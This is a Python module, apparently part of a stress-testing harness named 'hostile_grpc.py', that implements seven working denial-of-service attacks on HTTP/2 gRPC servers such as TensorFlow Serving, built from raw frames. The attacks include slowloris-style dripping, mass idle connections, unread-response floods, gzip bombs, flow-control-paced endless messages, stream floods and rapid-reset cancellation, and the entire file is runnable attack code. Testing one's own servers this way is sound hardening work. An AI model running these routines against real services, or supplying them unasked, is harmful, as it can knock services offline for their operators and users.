"""Attacks with frames of HTTP/2 that no gRPC client sends; a part of `hostile_grpc.py`.

Each is a coroutine function of ("host:port", time when it ends) that returns (requests, bytes of
the largest).
"""

import asyncio
import collections
import contextlib
import functools
import gzip
import itertools
import socket
import struct
import time

import grpc
from tensorflow_serving.apis import get_model_metadata_pb2

PREDICT = "/tensorflow.serving.PredictionService/Predict"
METADATA = "/tensorflow.serving.PredictionService/GetModelMetadata"
CHECK = "/grpc.health.v1.Health/Check"
MIB = 2**20
NOTHING = struct.pack(">HI", 4, 0)  # a setting: the client reads no response
CANCEL = struct.pack(">I", 8)


def channel(address):
    """Opens a separate connection, without limits at the client."""
    options = [
        ("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1),
        ("grpc.max_receive_message_length", -1),
    ]  # fmt: skip
    return grpc.aio.insecure_channel(address, options=options)


def frame(kind, flags, stream, payload=b""):
    """Encodes a frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def handshake(settings=b""):
    """Encodes the first bytes of an HTTP/2 client."""
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings) + frame(4, 1, 0)


def opened(stream, path, message=None, encoding="identity"):
    """Encodes a call: its headers, and its message unless that is None."""
    headers = {
        ":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "te": "trailers",
        "content-type": "application/grpc", "grpc-encoding": encoding,
    }  # fmt: skip
    block = b"".join(
        bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in headers.items()
    )
    frames = [frame(1, 4, stream, block)]
    if message is not None:
        message = struct.pack(">BI", encoding != "identity", len(message)) + message
        parts = [message[i : i + 2**14] for i in range(0, len(message), 2**14)]
        frames += [frame(0, part is parts[-1], stream, part) for part in parts]
    return b"".join(frames)


@contextlib.contextmanager
def sockets(address, number):
    """Opens sockets to "host:port"."""
    host, port = address.rsplit(":", 1)
    with contextlib.ExitStack() as stack:
        yield [
            stack.enter_context(socket.create_connection((host, int(port)))) for _ in range(number)
        ]


async def drip(number, address, until):
    """Opens sockets that send a byte of HTTP/2's preface each second."""
    preface = handshake()
    with sockets(address, number) as opened_sockets:
        for i in itertools.count():
            for one in opened_sockets:
                with contextlib.suppress(OSError):
                    one.send(preface[i % 33 : i % 33 + 1])
            await asyncio.sleep(1)
            if time.monotonic() > until:
                return number, 0


async def hold(number, data, address, until, settings=b""):
    """Opens sockets that finish the handshake of HTTP/2, send some bytes, and never read."""
    with sockets(address, number) as opened_sockets:
        for one in opened_sockets:
            with contextlib.suppress(OSError):
                one.sendall(handshake(settings) + data)
            await asyncio.sleep(0)
        await asyncio.sleep(max(0, until - time.monotonic()))
    return number, len(data)


async def unread(address, until):
    """Requests 6,000 responses, and reads none."""
    request = get_model_metadata_pb2.GetModelMetadataRequest(metadata_field=["signature_def"])
    request.model_spec.name = "rotation_cifar10"
    message = request.SerializeToString()
    data = b"".join(opened(i, METADATA, message) for i in range(1, 200, 2))
    await hold(60, data, address, until, NOTHING)
    return 6000, len(message)


async def bombs(address, until):
    """Sends health checks of 64 KB that decompress to 63 MiB."""
    bomb = gzip.compress(bytes(63 * MIB))
    data = b"".join(opened(i, CHECK, bomb, "gzip") for i in range(1, 60, 2))
    await hold(1, data, address, until)
    return 30, len(bomb)


async def flood(encode, address, until):
    """Opens four connections, and in each of them 2,000 streams per second."""
    number = 0

    async def one():
        nonlocal number
        while time.monotonic() < until:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(*address.rsplit(":", 1))
                reading = asyncio.create_task(reader.read())
                writer.write(handshake())
                while time.monotonic() < until and not reading.done():
                    first = number = number + 100
                    writer.write(b"".join(encode(2 * (first + i) + 1) for i in range(100)))
                    await writer.drain()
                    await asyncio.sleep(0.05)
                writer.close()
                with contextlib.suppress(OSError):
                    await reading

    await asyncio.gather(*(one() for _ in range(4)))
    return number, 0


class Windows:
    """A connection that sends as many bytes as the server allows, which HTTP/2 calls windows."""

    def __init__(self, reader, writer):
        self._reader, self._writer = reader, writer
        self._acknowledged = False  # `handshake` acknowledges the first settings
        self._initial, self._allowed = 2**16 - 1, collections.Counter({0: 2**16 - 1})

    async def read(self):
        """Reads how much the server allows to send, and answers pings, until it closes the connection."""
        while True:
            head = await self._reader.readexactly(9)
            payload = await self._reader.readexactly(int.from_bytes(head[:3]))
            kind, flags, stream = struct.unpack(">BBI", head[3:])
            if kind == 8:
                self._allowed[stream] += int.from_bytes(payload)
            elif kind == 6 and not flags:
                self._writer.write(frame(6, 1, 0, payload))
            elif kind == 4 and not flags:
                settings = dict(struct.iter_unpack(">HI", payload))
                self._initial = settings.get(4, self._initial)
                if self._acknowledged:
                    self._writer.write(frame(4, 1, 0))
                self._acknowledged = True

    async def send(self, stream, data, until):
        """Sends bytes, or fewer if the server ends the stream."""
        while data and time.monotonic() < until:
            part = min(len(data), 2**14, self._allowed[0], self._initial + self._allowed[stream])
            if part > 0:
                self._writer.write(frame(0, 0, stream, data[:part]))
                self._allowed.subtract({0: part, stream: part})
                data = data[part:]
                await self._writer.drain()
            else:
                await asyncio.sleep(0.001)


async def endless(address, until):
    """Sends 60 MiB of each of 32 messages that are one byte longer, over four connections."""

    data = memoryview(struct.pack(">BI", 0, 60 * MIB + 1) + bytes(60 * MIB))

    async def one():
        reader, writer = await asyncio.open_connection(*address.rsplit(":", 1))
        writer.write(handshake())
        windows = Windows(reader, writer)
        reading = asyncio.create_task(windows.read())
        with contextlib.suppress(OSError):
            for i in range(1, 16, 2):
                writer.write(opened(i, PREDICT))
                await windows.send(i, data, until)
            await asyncio.sleep(max(0, until - time.monotonic()))
        reading.cancel()
        writer.close()

    await asyncio.gather(*(one() for _ in range(4)))
    return 32, 60 * MIB


ATTACKS = {
    "idle connections": functools.partial(hold, 600, b""),
    "connections with a call": functools.partial(hold, 600, opened(1, PREDICT)),
    "unread responses": unread,
    "small gzip bombs": bombs,
    "endless messages": endless,
    "opened calls": functools.partial(flood, lambda i: opened(i, PREDICT)),
    "rapid reset": functools.partial(flood, lambda i: opened(i, PREDICT) + frame(3, 0, i, CANCEL)),
}
